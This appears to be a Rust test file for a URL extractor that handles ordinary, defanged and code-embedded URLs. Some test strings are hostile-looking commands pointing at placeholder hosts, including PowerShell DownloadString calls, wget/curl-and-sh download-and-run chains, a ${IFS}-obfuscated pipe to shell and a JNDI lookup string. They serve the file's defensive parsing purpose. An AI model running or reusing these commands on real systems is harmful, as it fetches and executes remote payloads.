use super::*;

#[test]
fn finds_urls_in_text() {
    for (text, expected) in [
        ("see http://a.example/x.", &["http://a.example/x"][..]),
        ("(https://a.example/x_(y))", &["https://a.example/x_(y)"]),
        ("[text](http://a.example/)!", &["http://a.example/"]),
        ("<HTTP://A.example>", &["HTTP://A.example"]),
        (
            "\"http://a.example\",'http://b.example',",
            &["http://a.example", "http://b.example"],
        ),
        (
            "Link:http://a.example/?u=https://b.example/",
            &["http://a.example/?u=https://b.example/"],
        ),
        ("linkhttp://a.example", &["http://a.example"]),
        ("hxxps://evil[.]example/a", &["hxxps://evil[.]example/a"]),
        (
            "hXXp[:]//evil(.)example[.]",
            &["hXXp[:]//evil(.)example[.]"],
        ),
        (
            "hxxp[://]192[.]0[.]2[.]7/x)",
            &["hxxp[://]192[.]0[.]2[.]7/x"],
        ),
        (
            "evil[.]example/x, WWW.Example.org;",
            &["evil[.]example/x", "WWW.Example.org"],
        ),
        (
            "evil[DOT]example (198[.]51[.]100[.]7)",
            &["evil[DOT]example", "198[.]51[.]100[.]7"],
        ),
        ("http:\\\\a.example\\x", &["http:\\\\a.example\\x"]),
        (
            "ftp://u:p@[2001:db8::1]:21/f",
            &["ftp://u:p@[2001:db8::1]:21/f"],
        ),
        ("http://bücher.example/ü,", &["http://bücher.example/ü"]),
        ("siehe „http://a.example“", &["http://a.example"]),
        (
            "me@a.example user[@]evil[.]example user[at]evil[.]example",
            &[],
        ),
        (
            "a.example file.txt 10:30 std::fmt:// http:// http://. x://a.example",
            &[],
        ),
        ("arr[.]", &[]),
    ] {
        let found: Vec<&str> = find(text).collect();
        assert_eq!(found, expected, "{text}");
    }
}

#[test]
fn knows_where_links_lead_somewhere() {
    for (link, leads) in [
        ("https://a.example", true),
        ("hxxp[:]//a.example", true),
        ("//a.example/x", true),
        ("mailto:a@a.example", false),
        ("javascript://a.example/%0aalert(1)", false),
        ("/x", false),
        ("#http://a.example", false),
        ("cid:http://a.example", false),
    ] {
        assert_eq!(crate::url::is_absolute(link), leads, "{link}");
    }
}

#[test]
fn finds_defanged_urls() {
    for (text, expected) in [
        (
            "http://f[.evil.example/q and hxxp://g.]evil.example/r, h[.evil.example",
            &[
                "http://f[.evil.example/q",
                "hxxp://g.]evil.example/r",
                "h[.evil.example",
            ][..],
        ),
        (
            "http__evil.example/q https:__evil2.example/r hxxp_//evil3.example",
            &[
                "http__evil.example/q",
                "https:__evil2.example/r",
                "hxxp_//evil3.example",
            ],
        ),
        (
            r"http:/\evil.example/x https:/evil2.example/y http:\/\/evil.example\/z",
            &[
                r"http:/\evil.example/x",
                "https:/evil2.example/y",
                r"http:\/\/evil.example\/z",
            ],
        ),
        ("http:/x https:/etc/passwd http__init__", &[]),
        (
            "evil [.] example/x and a[.]evil [dot] example",
            &["evil [.] example/x", "a[.]evil [dot] example"],
        ),
        (
            "http:// evil.example/x or http:// and",
            &["http:// evil.example/x"],
        ),
        (
            "C2:evil[.]example:8080/x;evil2[.]example,evil3[.]example",
            &[
                "evil[.]example:8080/x",
                "evil2[.]example",
                "evil3[.]example",
            ],
        ),
        (
            r"evil\.example a^.example dir\.git s/a\.b/ C:\dir\.git",
            &[r"evil\.example", "a^.example"],
        ),
        (
            "http[:]//evil(.)example[/]x h**p://evil.example",
            &["http[:]//evil(.)example[/]x", "h**p://evil.example"],
        ),
    ] {
        let found: Vec<&str> = find(text).collect();
        assert_eq!(found, expected, "{text}");
    }
}

#[test]
fn ends_urls_where_code_goes_on() {
    for (text, expected) in [
        (
            "http://a.example/?t1=v1&t2=v2,https://b.example, http://c.example/x,https://d.example/y",
            &[
                "http://a.example/?t1=v1&t2=v2",
                "https://b.example",
                "http://c.example/x",
                "https://d.example/y",
            ][..],
        ),
        ("http://a.example/a,b;c", &["http://a.example/a,b;c"]),
        (
            "DownloadString('https://evil.example/a.ps1');x $y; DownloadFile('http://evil[.]example/b.exe','c')",
            &["https://evil.example/a.ps1", "http://evil[.]example/b.exe"],
        ),
        (
            "[http://a.example](http://b.example/x). see https://c.example/about/), bar",
            &[
                "http://a.example",
                "http://b.example/x",
                "https://c.example/about/",
            ],
        ),
        ("http://a.example/it's/x", &["http://a.example/it's/x"]),
        (
            r#"href=\"http://a.example/x\" 'http://b.example/x\n' b'http://c.example\r\n'"#,
            &[
                "http://a.example/x",
                "http://b.example/x",
                "http://c.example",
            ],
        ),
        (
            "http://a.example/x&quot;&gt;here http://a.example/?a=1&amp;b=2",
            &["http://a.example/x", "http://a.example/?a=1&amp;b=2"],
        ),
        (
            "url(http://a.example/x.png)no-repeat",
            &["http://a.example/x.png"],
        ),
        (
            "GET /?cmd=wget+http://a.example/x.sh;sh+x.sh&b=%20http://b.example%3Bsh",
            &["http://a.example/x.sh", "http://b.example"],
        ),
        (
            "${jndi:ldap://a.example:1389/a}",
            &["ldap://a.example:1389/a"],
        ),
        (
            "http://http://evil.example",
            &["http://http://evil.example"],
        ),
        ("http://www.ev=il.example/x", &[]),
    ] {
        let found: Vec<&str> = find(text).collect();
        assert_eq!(found, expected, "{text}");
    }
}

#[test]
fn reads_a_shells_words() {
    for (text, expected) in [
        (
            "wget http://a.example/a;chmod 777 a|curl http://b.example/b&&sh",
            &["http://a.example/a", "http://b.example/b"][..],
        ),
        (
            "(curl http://a.example/a;)>/dev/null;x=$(curl -s http://b.example/b)",
            &["http://a.example/a", "http://b.example/b"],
        ),
        (
            "sh -c 'wget http://a.example/a' \"http://b.example/?a;b&c\"",
            &["http://a.example/a", "http://b.example/?a;b&c"],
        ),
        (
            "wget http://a.example/?a=1&b=2 http://b.example/x&",
            &["http://a.example/?a=1&b=2", "http://b.example/x"],
        ),
        (
            "wget${IFS}http://a.example/x${IFS}-O-|sh",
            &["http://a.example/x"],
        ),
        ("grep evil\\.example", &[]),
    ] {
        let found: Vec<&str> = spans(text, Language::Shell).map(|s| &text[s]).collect();
        assert_eq!(found, expected, "{text}");
    }
}
